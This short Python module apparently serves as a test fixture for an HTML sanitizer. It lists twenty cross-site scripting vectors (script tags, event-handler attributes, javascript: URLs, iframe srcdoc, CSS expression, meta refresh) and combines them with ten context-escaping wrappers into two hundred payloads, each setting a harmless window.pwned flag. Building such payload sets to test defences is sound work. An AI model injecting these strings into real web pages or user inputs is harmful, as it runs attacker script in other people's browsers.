"""Two hundred ways in which a text tries to become a script: twenty tricks in ten dresses, the same ones each time."""

TRICKS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1 id=c>x</a>",
    "<details open ontoggle=window.pwned=1>",
    "<body onpageshow=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<math><mi xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<style>@import'data:,*{x:expression(window.pwned=1)}'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
    "<form action=javascript:window.pwned=1><button>x</button></form>",
    "<object data='javascript:window.pwned=1'></object>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    'https://x.example/"onmouseover=window.pwned=1',
    "https://x.example/'><script>window.pwned=1</script>",
    "javascript:window.pwned=1//https://x.example/",
    "{{ request }}{% debug %}${window.pwned=1}",
)
DRESSES = (
    "{}",
    "</p>{}",
    "\"'>{}",
    "</textarea>{}",
    "</title></style>{}",
    "</script>{}",
    "<!--{}-->",
    "<![CDATA[{}]]>",
    "今天吃南瓜\n{}\n很好",
    "https://a.example/?q={}",
)
PAYLOADS = tuple(dress.replace("{}", trick) for trick in TRICKS for dress in DRESSES)
